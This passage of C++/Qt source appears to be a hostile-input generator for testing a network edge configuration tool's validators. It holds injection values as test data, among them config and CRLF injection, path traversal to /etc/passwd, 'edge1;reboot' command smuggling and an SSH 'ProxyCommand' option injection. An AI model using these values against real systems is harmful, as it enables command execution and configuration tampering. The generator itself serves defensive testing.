            value = n.min > 0 && rng.chance(50) ? QString::number(rng.between(0, int(n.min) - 1))
                                                : QString::number(n.max + 1 + rng.below(100000));
        } else {
            value = hostileNumber(rng, QString::fromLatin1(n.valid), n.max);
        }
        return {QString::fromLatin1(n.key), value};
    }
    }
}

const QList<HostileInputs::Case> &fixedCases()
{
    static const QList<HostileInputs::Case> cases = [] {
        QList<HostileInputs::Case> out;
        auto add = [&](const char *field, const QString &value) {
            out.append({QString::fromLatin1(field), value, {}, false});
        };
        // The payloads named in the test plan, verbatim.
        add("hostname", S("a.example.com;\nserver { listen 80; }"));
        add("hostname", S("example.com\r\nHost: evil"));
        add("hostname", S("$host"));
        add("hostname", S("../../etc/passwd"));
        add("hostname", S("0x7f.1"));
        add("hostname", S("127.1"));
        add("hostname", S("1.2.3.4.5"));
        add("hostname", S("::ffff:127.0.0.1"));
        add("hostname", S("fe80::1%eth0"));
        add("hostname", S("[::1]"));
        add("hostname", U(u"\u202Eexample.com"));
        add("hostname", U(u"exa\u200Bmple.com"));
        add("hostname", U(u"exa\u200Dmple.com"));
        add("hostname", QChar(0xFEFF) + S("example.com"));
        add("hostname", U(u"exa\u00ADmple.com"));
        add("hostname", U(u"\uFF45xample.com"));
        add("hostname", U(u"example\uFF0Ecom"));
        add("hostname", U(u"example\u3002com"));
        add("hostname", U(u"example\uFF0Ecom;"));
        add("hostname", U(u"ex\u0430mple.com"));
        add("hostname", U(u"e\u0301xample.com"));
        add("hostname", S("exa%6dple.com"));
        add("hostname", S("localhost"));
        add("hostname", S("-example.com"));
        add("hostname", S("example-.com"));
        add("hostname", S("a..example.com"));
        add("hostname", QString(64, QLatin1Char('a')) + S(".com"));
        add("zone", S("*.example.com"));
        add("zone", S("com"));
        add("name", S("edge1;reboot"));
        add("ssh", S("root@-oProxyCommand=id"));
        add("ssh", S("root@fe80::1%eth0"));
        add("public-ip", S("0x7f.1"));
        add("public-ip", S("::ffff:127.0.0.1"));
        add("public-ip", S("[::1]"));
        add("port", S("080"));
        add("health-path", S("/../etc/passwd"));
        add("max-body", S("65g"));
        add("timeout", S("86401"));
        add("api-base", S("https://user@api.cloudflare.com/client/v4"));
        add("tsig-name", S("key;name"));
        add("wg-key", S("AAAA"));
        out.append({S("setting-value"), S("10.100.0.1/16"), S("tunnel.range"), false});
        return out;
    }();
    return cases;
}

HostileInputs::Case randomCase(Rng &rng, const QString &field)
{
    HostileInputs::Case c;
    c.field = field;
    if (field == QLatin1String("hostname")) {
        c.value = hostileName(rng, rng.pick(hostnameBases()), NameUse::Hostname);
        if (c.value.startsWith(QLatin1String("*."))) // may be a valid wildcard route
            c.value.prepend(QLatin1Char(';'));
    } else if (field == QLatin1String("zone")) {
        c.value = rng.chance(3) ? S("*.") + rng.pick(hostnameBases())
                                : hostileName(rng, rng.pick(hostnameBases()), NameUse::Hostname);
    } else if (field == QLatin1String("tsig-name")) {
        const QStringList bases{S("kokoa-key"), S("tsig.example.com"), S("update_key"),
                                S("k1.zone")};
        c.value = hostileName(rng, rng.pick(bases), NameUse::TsigKey);
    } else if (field == QLatin1String("name")) {
        c.value = hostileName(rng);
    } else if (field == QLatin1String("ssh")) {
        c.value = hostileSsh(rng);
    } else if (field == QLatin1String("public-ip")) {
        c.value = hostileAddress(rng, &c.needsPublicScope);
    } else if (field == QLatin1String("port")) {
        c.value = rng.chance(10)
                      ? S("0")
                      : hostileNumber(rng, QString::number(rng.between(1, 65535)), 65535);
    } else if (field == QLatin1String("timeout")) {
        c.value = rng.chance(10)
                      ? S("0")
                      : hostileNumber(rng, QString::number(rng.between(1, 86400)), 86400);
    } else if (field == QLatin1String("health-path")) {
        c.value = hostileHealthPath(rng);
    } else if (field == QLatin1String("max-body")) {
        c.value = hostileBodySize(rng);
    } else if (field == QLatin1String("api-base")) {
        c.value = hostileApiBase(rng, &c.needsPublicScope);
    } else if (field == QLatin1String("wg-key")) {
        c.value = hostileWireGuardKey(rng);
    } else {
        const SettingValue s = hostileSetting(rng);
        c.settingKey = s.key;
        c.value = s.value;
    }
    return c;
}

} // namespace

QStringList HostileInputs::fields()
{
    return {S("hostname"),  S("zone"),        S("name"),         S("ssh"),     S("public-ip"),
            S("port"),      S("health-path"), S("max-body"),     S("timeout"), S("api-base"),
            S("tsig-name"), S("wg-key"),      S("setting-value")};
}

QList<HostileInputs::Case> HostileInputs::generate(int count, quint32 seed)
{
    QList<Case> out;
    QSet<QString> seen;
    auto keep = [&](const Case &c) {
        const QString id = c.field + QChar(0x1F) + c.settingKey + QChar(0x1F) + c.value;
        if (c.value.isEmpty() || seen.contains(id))
            return;
        seen.insert(id);
        out.append(c);
    };
    for (const Case &c : fixedCases()) {
        if (out.size() >= count)
            return out;
        keep(c);
    }
    Rng rng(seed);
    const QStringList all = fields();
    // Small fields run out of new values; give up on a field after many
    // repeats in a row rather than loop for ever.
    int misses = 0;
    for (qsizetype i = 0; out.size() < count && misses < 100000; ++i) {
        const qsizetype before = out.size();
        keep(randomCase(rng, all.at(i % all.size())));
        misses = out.size() == before ? misses + 1 : 0;
    }
    return out;
}

} // namespace kokoa
